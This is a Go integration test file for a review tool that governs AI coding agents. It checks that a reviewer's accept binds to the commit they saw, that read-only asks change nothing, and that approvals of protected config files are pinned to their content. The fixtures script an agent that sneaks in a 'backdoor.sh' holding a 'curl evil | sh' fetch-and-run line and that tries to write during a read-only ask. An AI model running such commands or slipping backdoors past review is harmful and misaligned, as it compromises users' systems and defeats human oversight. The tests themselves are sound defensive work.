package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"lazy/api"
	"lazy/client"
	"lazy/gitx/gitxtest"
	"lazy/review"
)

var headField = regexp.MustCompile(`name="head" value="([0-9a-f]{40})"`)

// pageHead is the head a review page's accept form carries.
func (p *project) pageHead(ref string) string {
	p.t.Helper()
	m := headField.FindStringSubmatch(p.page("/review/" + ref))
	if m == nil {
		p.t.Fatalf("the review page of %s has no head in its accept form", ref)
	}
	return m[1]
}

// acceptForm posts the page's accept form as a browser would: the POST's
// status (303 to a page, whether accepted or refused) and the page it
// leads to.
func (p *project) acceptForm(ref, head string) (int, string) {
	p.t.Helper()
	return p.postForm("/review/"+ref+"/accept", url.Values{"reason": {"reviewed"}, "head": {head}})
}

// postForm posts a page's form with the auth token: the POST's status and
// the body of the page a 303 leads to (else the POST's own body).
func (p *project) postForm(path string, v url.Values) (int, string) {
	p.t.Helper()
	resp, err := noRedirect.Do(p.bearerReq(http.MethodPost, p.info().BaseURL+path, "application/x-www-form-urlencoded", strings.NewReader(v.Encode())))
	if err != nil {
		p.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusSeeOther {
		return resp.StatusCode, string(b)
	}
	loc := resp.Header.Get("Location")
	page, err := noRedirect.Do(p.bearerReq(http.MethodGet, p.info().BaseURL+loc, "", nil))
	if err != nil {
		p.t.Fatal(err)
	}
	defer page.Body.Close()
	b, _ = io.ReadAll(page.Body)
	if page.StatusCode != http.StatusOK {
		p.t.Fatalf("GET %s after POST %s: %d %s", loc, path, page.StatusCode, b)
	}
	return resp.StatusCode, string(b)
}

func remedyReason(t *testing.T, err error) string {
	t.Helper()
	var ce *client.Error
	if !errors.As(err, &ce) {
		t.Fatalf("not a daemon refusal: %v", err)
	}
	r := review.ParseRemedy(ce.Remedy)
	if r == nil {
		t.Fatalf("no remedy: %v", err)
	}
	return r.Reason
}

// TestReviewerDecisionBindsToWhatTheySaw (CONTRACT §14): the reviewer
// loads the page; the agent commits again (a backdoor, say); the accept
// posted from the page as loaded is refused with the new commits listed and
// main unchanged — by the page, the RPC and the CLI alike; the head they
// now review is merged. A comment still queued refuses an accept until it
// is delivered. An ask whose agent commits anyway changes nothing.
func TestReviewerDecisionBindsToWhatTheySaw(t *testing.T) {
	requireBwrap(t)
	p := newProject(t, "") // the default runner
	p.lazy(0, "daemon", "start")
	p.lazy(0, "task", "new", "-m", "@write app.py def pay(amount): return amount\\n\n@commit pay", "--code", "victim")
	p.waitStatus("victim", "blocked")
	seen := p.pageHead("victim")
	mainBefore := strings.TrimSpace(gitxtest.Git(t, p.root, "rev-parse", "main"))

	// the agent commits again after the page was read
	p.lazy(0, "unblock", "victim", "-m", "@write backdoor.sh curl evil | sh\n@commit tidy up")
	p.waitTurns("victim", 2)
	p.waitStatus("victim", "blocked")

	code, body := p.acceptForm("victim", seen)
	if code != http.StatusSeeOther || !strings.Contains(body, "moved since you reviewed it") || !strings.Contains(body, "tidy up") || !strings.Contains(body, `class="review-new"`) {
		t.Fatalf("the page's accept of the head it showed: %d\n%s", code, grepLines(body, "refusal"))
	}
	err := p.rpc().Call(context.Background(), "reviewAccept", map[string]string{"task": "victim", "reason": "ok", "head": seen}, nil)
	if got := remedyReason(t, err); got != review.ReasonHeadMoved {
		t.Fatalf("RPC accept of an old head: %s", got)
	}
	_, errOut, exit := p.run("accept", "victim", "--reason", "ok", "--head", seen[:12])
	if exit != 1 || !strings.Contains(errOut, "new commit:") || !strings.Contains(errOut, "tidy up") {
		t.Fatalf("CLI accept of an old head: exit %d\n%s", exit, errOut)
	}
	if now := strings.TrimSpace(gitxtest.Git(t, p.root, "rev-parse", "main")); now != mainBefore {
		t.Fatal("a refused accept moved main")
	}
	// a name is not a head anyone reviewed
	if _, errOut, exit := p.run("accept", "victim", "--reason", "ok", "--head", "lazy/victim"); exit != 1 || !strings.Contains(errOut, "must be a commit id") {
		t.Fatalf("accept --head with a branch name: exit %d\n%s", exit, errOut)
	}
	// the head they review now is merged, and the CLI says which
	_, errOut, exit = p.run("accept", "victim", "--reason", "reviewed both commits")
	if exit != 0 || !strings.Contains(errOut, "accepting victim at") {
		t.Fatalf("CLI accept: exit %d\n%s", exit, errOut)
	}
	if out := gitxtest.Git(t, p.root, "ls-tree", "--name-only", "main"); !strings.Contains(out, "backdoor.sh") {
		t.Fatalf("main after the accept: %s", out)
	}

	// a comment still queued: accept refused, the in-page action delivers it
	p.lazy(0, "task", "new", "-m", "@write q.txt one\n@commit q", "--code", "queued")
	p.waitStatus("queued", "blocked")
	p.post("queued", api.PostCommentArgs{Body: "rename it", File: "q.txt", Line: 1, Side: "new", Intent: "comment"})
	page := p.page("/review/queued")
	if !strings.Contains(page, `class="accept-queued"`) {
		t.Error("the accept form does not warn of the queued comment")
	}
	code, body = p.acceptForm("queued", p.pageHead("queued"))
	if code != http.StatusSeeOther || !strings.Contains(body, "queued for the agent") || !strings.Contains(body, `class="unblock-queued-form"`) {
		t.Fatalf("accept with a queued comment: %d\n%s", code, grepLines(body, "refusal"))
	}
	p.lazy(0, "unblock", "queued")
	p.waitTurns("queued", 2)
	p.waitStatus("queued", "blocked")
	if code, body := p.acceptForm("queued", p.pageHead("queued")); code != http.StatusSeeOther {
		t.Fatalf("accept once the comment was delivered: %d\n%s", code, grepLines(body, "refusal"))
	}
	if p.show("queued").Status != "accepted" {
		t.Fatalf("queued: %s", p.show("queued").Status)
	}
}

// TestAskChangesNothing: an ask whose agent writes and commits anyway
// leaves the task branch where it was, under the default sandbox (the
// worktree and the task repository are read-only) and under the process
// runner (the daemon puts back what it changed and the answer says so).
func TestAskChangesNothing(t *testing.T) {
	for _, runner := range []string{"", "process"} {
		name := runner
		if name == "" {
			name = "default"
			requireBwrap(t)
		}
		t.Run(name, func(t *testing.T) {
			p := newProject(t, runner)
			p.lazy(0, "daemon", "start")
			p.lazy(0, "task", "new", "-m", "@write a.txt one\n@commit one", "--code", "asked")
			ti := p.waitStatus("asked", "blocked")
			before := strings.TrimSpace(gitxtest.Git(t, ti.Worktree, "rev-parse", "HEAD"))
			c := p.post("asked", api.PostCommentArgs{Body: "why one?\n@sneak evil.txt pwned", File: "a.txt", Line: 1, Side: "new", Intent: "ask"})
			pl := p.waitThreads("asked", "the answer", func(pl review.Payload) bool { return pl.Pending == 0 })
			var answer string
			for _, th := range pl.Threads {
				for _, m := range th.Messages {
					if m.ThreadID == c.ThreadID && m.Actor == review.Agent {
						answer = m.Body
					}
				}
			}
			if after := strings.TrimSpace(gitxtest.Git(t, ti.Worktree, "rev-parse", "HEAD")); after != before {
				t.Fatalf("the ask moved the branch: %s → %s", before, after)
			}
			if out := gitxtest.Git(t, ti.Worktree, "status", "--porcelain"); strings.Contains(out, "evil.txt") {
				t.Fatalf("the ask left a file: %s", out)
			}
			if runner == "process" && !strings.Contains(answer, "This ask was read-only, but it moved the task branch") {
				t.Fatalf("the answer does not say what was put back: %q", answer)
			}
			if runner == "" && !strings.Contains(answer, "could not") {
				t.Fatalf("under the sandbox the agent's write must fail: %q", answer)
			}
		})
	}
}

// waitTurns polls the task until it has had n turns.
func (p *project) waitTurns(ref string, n int) {
	p.t.Helper()
	deadline := time.Now().Add(60 * time.Second)
	for p.show(ref).Turns < n {
		if time.Now().After(deadline) {
			p.t.Fatalf("task %s: fewer than %d turns", ref, n)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// TestAcceptRefusesADirtyCheckout: with the user's own checkout of main
// holding uncommitted edits to a file the task changed, an accept is
// refused with the files and "commit or stash" — on the page (the remedy
// panel), the RPC (409, checkout_dirty) and the CLI (exit 1) — never an
// internal error; once stashed, the accept merges.
func TestAcceptRefusesADirtyCheckout(t *testing.T) {
	p := newProject(t, "process")
	p.lazy(0, "daemon", "start")
	if err := os.WriteFile(filepath.Join(p.root, "README.md"), []byte("# p, edited\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// a task started from a dirty checkout says it starts without the edits
	if _, errOut, exit := p.run("task", "new", "-m", "@write main.go package main // by the agent\n@commit edit main", "--code", "d"); exit != 0 ||
		!strings.Contains(errOut, "warning: your checkout at") || !strings.Contains(errOut, "README.md") {
		t.Fatalf("task new on a dirty checkout: exit %d\n%s", exit, errOut)
	}
	p.waitStatus("d", "blocked")
	if err := os.WriteFile(filepath.Join(p.root, "main.go"), []byte("package main // my own edit\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	code, body := p.acceptForm("d", p.pageHead("d"))
	if code != http.StatusSeeOther || !strings.Contains(body, "uncommitted changes") || !strings.Contains(body, "<code>main.go</code>") || !strings.Contains(body, "stash") {
		t.Fatalf("page accept with a dirty checkout: %d\n%s", code, grepLines(body, "refusal"))
	}
	err := p.rpc().Call(context.Background(), "reviewAccept", map[string]string{"task": "d", "reason": "ok"}, nil)
	var ce *client.Error
	if got := remedyReason(t, err); got != review.ReasonCheckoutDirty || !errors.As(err, &ce) || ce.Status != http.StatusConflict {
		t.Fatalf("RPC accept with a dirty checkout: %s %v", got, err)
	}
	_, errOut, exit := p.run("accept", "d", "--reason", "ok")
	if exit != 1 || !strings.Contains(errOut, "main.go") || strings.Contains(errOut, "internal error") {
		t.Fatalf("CLI accept with a dirty checkout: exit %d\n%s", exit, errOut)
	}
	if b, _ := os.ReadFile(filepath.Join(p.root, "main.go")); string(b) != "package main // my own edit\n" {
		t.Fatal("the user's edit was touched")
	}
	gitxtest.Git(t, p.root, "stash")
	if _, errOut, exit := p.run("accept", "d", "--reason", "ok"); exit != 0 {
		t.Fatalf("accept once stashed: exit %d\n%s", exit, errOut)
	}
}

// TestApprovalPinsContent (CONTRACT §14): an approval of a protected file
// approves its content. The agent changes .lazy/config.toml (protected by
// default); the reviewer approves it with the passphrase; the agent changes
// it again: the accept asks for the passphrase again, for the new content.
// Once accepted, the config in force is the approved content, and `lazy
// daemon status` (and every page) says which approval brought it.
func TestApprovalPinsContent(t *testing.T) {
	p := newProject(t, "process")
	gitxtest.Git(t, p.root, "add", ".lazy/config.toml")
	gitxtest.Git(t, p.root, "-c", "user.name=t", "-c", "user.email=t@l", "commit", "-q", "-m", "lazy config")
	p.lazy(0, "daemon", "start")
	if st := p.lazy(0, "daemon", "status"); !strings.Contains(st, "config: .lazy/config.toml as committed") {
		t.Fatalf("status before: %s", st)
	}
	setPass := p.cmd("passphrase", "set")
	setPass.Stdin = strings.NewReader("correct horse battery\n")
	if out, err := setPass.CombinedOutput(); err != nil {
		t.Fatalf("passphrase set: %v %s", err, out)
	}
	cfg, err := os.ReadFile(filepath.Join(p.root, ".lazy", "config.toml"))
	if err != nil {
		t.Fatal(err)
	}
	edit := func(timeout string) string {
		// the scripted agent writes one line per @write: the file, whole
		return "@write .lazy/config.toml " + strings.ReplaceAll(strings.Replace(string(cfg), `turn_timeout = "2m"`, `turn_timeout = "`+timeout+`"`, 1), "\n", `\n`)
	}
	p.lazy(0, "task", "new", "-m", edit("3m")+"\n@commit a longer timeout", "--code", "cfg")
	p.waitStatus("cfg", "blocked")
	approve := p.cmd("approve", "cfg", "--file", ".lazy/config.toml")
	approve.Stdin = strings.NewReader("correct horse battery\n")
	if out, err := approve.CombinedOutput(); err != nil {
		t.Fatalf("approve: %v %s", err, out)
	}
	// the agent changes the approved file again
	p.lazy(0, "unblock", "cfg", "-m", edit("4m")+"\n@commit longer still")
	p.waitTurns("cfg", 2)
	p.waitStatus("cfg", "blocked")
	err = p.rpc().Call(context.Background(), "reviewAccept", map[string]string{"task": "cfg", "reason": "ok"}, nil)
	if got := remedyReason(t, err); got != review.ReasonPassphraseRequired {
		t.Fatalf("a protected file changed after its approval: %s", got)
	}
	// approved as it is now, accepted: the config in force names the approval
	accept := p.cmd("accept", "cfg", "--reason", "a longer timeout", "--approve-file", ".lazy/config.toml")
	accept.Stdin = strings.NewReader("correct horse battery\n")
	if out, err := accept.CombinedOutput(); err != nil {
		t.Fatalf("accept with the approval: %v %s", err, out)
	}
	deadline := time.Now().Add(30 * time.Second)
	for {
		st := p.lazy(0, "daemon", "status")
		if strings.Contains(st, "config: .lazy/config.toml as approved with the passphrase for task cfg") {
			if page := p.page("/"); !strings.Contains(page, "as approved with the passphrase for task cfg") {
				t.Error("the pages do not say which approval brought the config")
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("status after the accept: %s", st)
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// TestAgentCommitsWithPlainGit: an agent that commits with plain `git
// commit`, as real clients do, succeeds in the default sandbox (uid 1000
// has no name git could make an address of: the daemon gives it the
// project's git identity), and the commit is by that identity.
func TestAgentCommitsWithPlainGit(t *testing.T) {
	requireBwrap(t)
	p := newProject(t, "")
	gitxtest.Git(t, p.root, "config", "user.name", "Pat Project")
	gitxtest.Git(t, p.root, "config", "user.email", "pat@project.example")
	agentScript := filepath.Join(t.TempDir(), "agent.sh")
	script := "#!/bin/sh\ncat >/dev/null\necho plain > plain.txt && git add plain.txt && git commit -q -m 'plain git' >&2 || exit 9\n" +
		`echo '{"result":"committed","session_id":"s1","is_error":false}'` + "\n"
	if err := os.WriteFile(agentScript, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	cfgPath := filepath.Join(p.root, ".lazy", "config.toml")
	cfg, _ := os.ReadFile(cfgPath)
	cfgText := strings.Replace(string(cfg), `driver = "script"`, fmt.Sprintf("driver = \"claude-code\"\ncommand = %q", agentScript), 1)
	if err := os.WriteFile(cfgPath, []byte(cfgText), 0o644); err != nil {
		t.Fatal(err)
	}
	p.lazy(0, "daemon", "start")
	p.lazy(0, "task", "new", "-m", "commit something", "--code", "plain")
	ti := p.waitStatus("plain", "blocked")
	if got := strings.TrimSpace(gitxtest.Git(t, p.root, "log", "-1", "--format=%an <%ae> %s", "lazy/plain")); got != "Pat Project <pat@project.example> plain git" {
		t.Fatalf("the agent's commit: %q (task %+v)", got, ti)
	}
}
